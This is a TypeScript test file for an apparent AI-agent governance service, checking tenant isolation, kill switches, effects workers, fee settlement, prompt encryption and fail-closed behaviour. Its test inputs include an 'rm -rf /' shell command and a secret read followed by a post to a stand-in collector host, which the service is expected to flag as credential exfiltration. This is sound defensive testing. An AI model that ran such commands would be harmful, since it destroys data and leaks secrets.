import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Worker } from 'bullmq';
import { createTestContext, type TestContext } from '../helpers/context.js';
import { seedOrganization, seedUser, type TestUser } from '../helpers/auth.js';
import { evaluate } from '../helpers/evaluate.js';
import { createRedis } from '../../src/infra/redis.js';
import { register } from '../../workers/register.js';
import { effectsProcessors } from '../../workers/processors/effects.js';
import { QUEUES } from '../../src/effects/contract.js';
import { markEffectsDone, pendingEffects, settleFees } from '../../src/ledger/settle.js';

let ctx: TestContext;
let adminA: TestUser;
let adminB: TestUser;

beforeAll(async () => {
  ctx = await createTestContext({ GOVERNOR_RATE_LIMIT_EVALUATE_PER_MIN: '0', GOVERNOR_RATE_LIMIT_DEFAULT_PER_MIN: '0' });
  const orgA = await seedOrganization(ctx.core);
  const orgB = await seedOrganization(ctx.core);
  adminA = await seedUser(ctx.app, ctx.core, { organizationId: orgA, role: 'admin' });
  adminB = await seedUser(ctx.app, ctx.core, { organizationId: orgB, role: 'admin' });
});
afterAll(async () => {
  await ctx?.close();
});

const shared = { agent_id: 'shared-agent', session_id: 'shared-session' };

describe('multi-tenancy of runtime state', () => {
  it('quarantine and kill switch of one organization do not touch another with the same agent_id', async () => {
    await ctx.app.inject({ method: 'POST', url: `/admin/quarantine/${shared.agent_id}`, headers: adminA.headers });
    expect((await evaluate(ctx.app, adminA.headers, { tool: 'get_weather', context: shared })).json().error_code).toBe('AGENT_QUARANTINED');
    expect((await evaluate(ctx.app, adminB.headers, { tool: 'get_weather', context: shared })).json().decision).toBe('allow');
    const statusB = await ctx.app.inject({ method: 'GET', url: `/admin/quarantine/${shared.agent_id}`, headers: adminB.headers });
    expect(statusB.json()).toMatchObject({ quarantined: false });
    await ctx.app.inject({ method: 'POST', url: `/admin/unquarantine/${shared.agent_id}`, headers: adminA.headers });

    await ctx.app.inject({ method: 'POST', url: '/admin/kill', headers: adminA.headers });
    expect((await evaluate(ctx.app, adminA.headers, { tool: 'get_weather', context: shared })).json().error_code).toBe('KILL_SWITCH_ACTIVE');
    expect((await evaluate(ctx.app, adminB.headers, { tool: 'get_weather', context: shared })).json().decision).toBe('allow');
    await ctx.app.inject({ method: 'POST', url: '/admin/resume', headers: adminA.headers });
  });

  it('session history is per organization: a chain in one never shows in the other', async () => {
    const session = { agent_id: shared.agent_id, session_id: 'chain-shared' };
    await evaluate(ctx.app, adminA.headers, { tool: 'read_secret', args: { name: 'prod/api-token' }, context: session });
    const inB = (await evaluate(ctx.app, adminB.headers, { tool: 'http_post', args: { url: 'https://collector.example.net/u', body: 'x' }, context: session })).json();
    expect(inB.chain_pattern).toBeNull();
    const inA = (await evaluate(ctx.app, adminA.headers, { tool: 'http_post', args: { url: 'https://collector.example.net/u', body: 'x' }, context: session })).json();
    expect(inA.chain_pattern).toBe('credential_exfiltration');
  });

  it('action records are visible only to their organization', async () => {
    const a = (await evaluate(ctx.app, adminA.headers, { tool: 'org_a_only_tool', context: shared })).json();
    const listB = (await ctx.app.inject({ method: 'GET', url: '/actions?tool=org_a_only_tool', headers: adminB.headers })).json();
    expect(listB.total).toBe(0);
    const listA = (await ctx.app.inject({ method: 'GET', url: '/actions?tool=org_a_only_tool', headers: adminA.headers })).json();
    expect(listA.items.map((i: { id: number }) => i.id)).toContain(a.action_id);
  });

  it('a delegation parent of another organization is unknown to a child', async () => {
    const parent = (await evaluate(ctx.app, adminA.headers, { tool: 'delegate_task', args: { target_agent: 'kid', tools: ['read_file'] }, context: { agent_id: 'boss' } })).json();
    const child = (await evaluate(ctx.app, adminB.headers, { tool: 'read_file', args: { path: 'x' }, context: { agent_id: 'kid', parent_action_id: parent.action_id } })).json();
    expect(child.policy_ids).toEqual(['system:delegation:missing_parent']);
  });
});

describe('several API processes behave as one service', () => {
  it('a kill switch set through one process blocks on another at once', async () => {
    const other = await ctx.secondApp();
    await evaluate(other.app, adminA.headers, { tool: 'get_weather', context: shared });
    const kill = await ctx.app.inject({ method: 'POST', url: '/admin/kill', headers: adminA.headers });
    expect(kill.statusCode).toBe(200);
    expect((await evaluate(other.app, adminA.headers, { tool: 'get_weather', context: shared })).json().error_code).toBe('KILL_SWITCH_ACTIVE');
    await other.app.inject({ method: 'POST', url: '/admin/resume', headers: adminA.headers });
    expect((await evaluate(ctx.app, adminA.headers, { tool: 'get_weather', context: shared })).json().decision).toBe('allow');
  });
});

describe('post-evaluation effects', () => {
  it('a worker consumes the evaluation job and marks the effects done; the fee sweep debits each fee once', async () => {
    const connection = createRedis(ctx.config.REDIS_URL, 'blocking', 'test-worker');
    let worker: Worker | undefined;
    try {
      const orgId = adminB.organizationId;
      const knex = ctx.core.orm.em.getConnection().getKnex();
      await settleFees(ctx.core.sql);
      const before = Number((await knex('wallets').where({ organization_id: orgId }).first()).balance);
      const body = (await evaluate(ctx.app, adminB.headers, { tool: 'get_weather', context: { agent_id: 'fee-agent' } })).json();
      const risky = (await evaluate(ctx.app, adminB.headers, { tool: 'run_shell_command', args: { command: 'rm -rf /' }, context: { agent_id: 'fee-agent' } })).json();
      const ids = [body.action_id, risky.action_id];
      // Written by the same statement as the action rows: nothing is lost if no worker runs now.
      expect(await knex('action_effects_pending').whereIn('action_id', ids)).toHaveLength(2);
      worker = register(QUEUES.effects, effectsProcessors(ctx.core).processors, { connection, keyPrefix: ctx.core.keyPrefix, concurrency: 2, log: ctx.core.log });
      let done = false;
      for (let i = 0; i < 100 && !done; i++) {
        done = (await knex('action_effects_pending').whereIn('action_id', ids)).length === 0;
        if (!done) await new Promise((r) => setTimeout(r, 100));
      }
      expect(done).toBe(true);
      expect(await knex('action_fees_unsettled').whereIn('action_id', ids)).toHaveLength(ids.length);
      const first = await settleFees(ctx.core.sql);
      expect(first.settled).toBe(2);
      expect(await settleFees(ctx.core.sql)).toEqual({ settled: 0, debited: 0 });
      const after = Number((await knex('wallets').where({ organization_id: orgId }).first()).balance);
      expect(before - after).toBeCloseTo(body.fee + risky.fee, 6);
      expect(risky.fee).toBe(0.025);
      expect(await knex('action_fees_unsettled').whereIn('action_id', ids)).toHaveLength(0);
      // The action rows themselves are never rewritten.
      expect(await knex('actions').whereIn('id', ids)).toHaveLength(2);
    } finally {
      await worker?.close();
      connection.disconnect();
    }
  });
});

describe('effects reconciler input', () => {
  it('lists actions whose effects are still pending after the grace period, until a worker marks them done', async () => {
    const knex = ctx.core.orm.em.getConnection().getKnex();
    const body = (await evaluate(ctx.app, adminA.headers, { tool: 'get_weather', context: { agent_id: 'lost-job' } })).json();
    expect((await pendingEffects(ctx.core.sql, 60, 1000)).map((a) => a.id)).not.toContain(body.action_id);
    await knex('action_effects_pending').where({ action_id: body.action_id }).update({ created_at: knex.raw("now() - interval '5 minutes'") });
    const lost = (await pendingEffects(ctx.core.sql, 60, 1000)).find((a) => a.id === body.action_id);
    expect(lost).toMatchObject({ organization_id: adminA.organizationId, agent_id: 'lost-job', tool: 'get_weather', decision: 'allow' });
    // Another organization's id never marks this one's action.
    expect(await markEffectsDone(ctx.core.sql, [{ organizationId: adminB.organizationId, actionId: body.action_id }])).toBe(0);
    expect(await markEffectsDone(ctx.core.sql, [{ organizationId: adminA.organizationId, actionId: body.action_id }])).toBe(1);
    expect(await markEffectsDone(ctx.core.sql, [{ organizationId: adminA.organizationId, actionId: body.action_id }])).toBe(0);
    expect((await pendingEffects(ctx.core.sql, 60, 1000)).map((a) => a.id)).not.toContain(body.action_id);
  });
});

describe('prompts at rest', () => {
  it('are sealed with GOVERNOR_ENCRYPTION_KEY, and not stored at all without it', async () => {
    const key = Buffer.alloc(32, 7).toString('base64');
    const sealing = await ctx.secondApp({ GOVERNOR_ENCRYPTION_KEY: key });
    const prompt = 'I will quietly copy the payroll file';
    const sealed = (await evaluate(sealing.app, adminA.headers, { tool: 'get_weather', context: { agent_id: 'p', prompt } })).json();
    const plain = (await evaluate(ctx.app, adminA.headers, { tool: 'get_weather', context: { agent_id: 'p', prompt } })).json();
    const knex = ctx.core.orm.em.getConnection().getKnex();
    const rows = await knex('actions').whereIn('id', [sealed.action_id, plain.action_id]).orderBy('id');
    expect(JSON.stringify(rows)).not.toContain('payroll');
    const withKey = rows.find((r) => Number(r.id) === sealed.action_id);
    const withoutKey = rows.find((r) => Number(r.id) === plain.action_id);
    expect(sealing.core.sealer!.open(withKey.prompt_sealed)).toBe(prompt);
    expect(withoutKey.prompt_sealed).toBeNull();
  });
});

describe('fail closed', () => {
  it('answers 503 when Redis fails during an evaluation, never allow', async () => {
    const broken = await ctx.secondApp();
    await evaluate(broken.app, adminA.headers, { tool: 'get_weather', context: shared });
    broken.core.redis.disconnect();
    const res = await evaluate(broken.app, adminA.headers, { tool: 'get_weather', context: shared });
    expect(res.statusCode).toBe(503);
    expect(res.json()).toMatchObject({ error: { code: 'SERVICE_UNAVAILABLE' } });
  });

  it('answers 503 when PostgreSQL fails during an evaluation, never allow', async () => {
    const broken = await ctx.secondApp();
    await evaluate(broken.app, adminA.headers, { tool: 'get_weather', context: shared });
    await broken.core.orm.close(true);
    await broken.core.sql.close();
    const res = await evaluate(broken.app, adminA.headers, { tool: 'get_weather', context: shared });
    expect(res.statusCode).toBe(503);
    expect(res.json()).toMatchObject({ error: { code: 'SERVICE_UNAVAILABLE' } });
  });
});
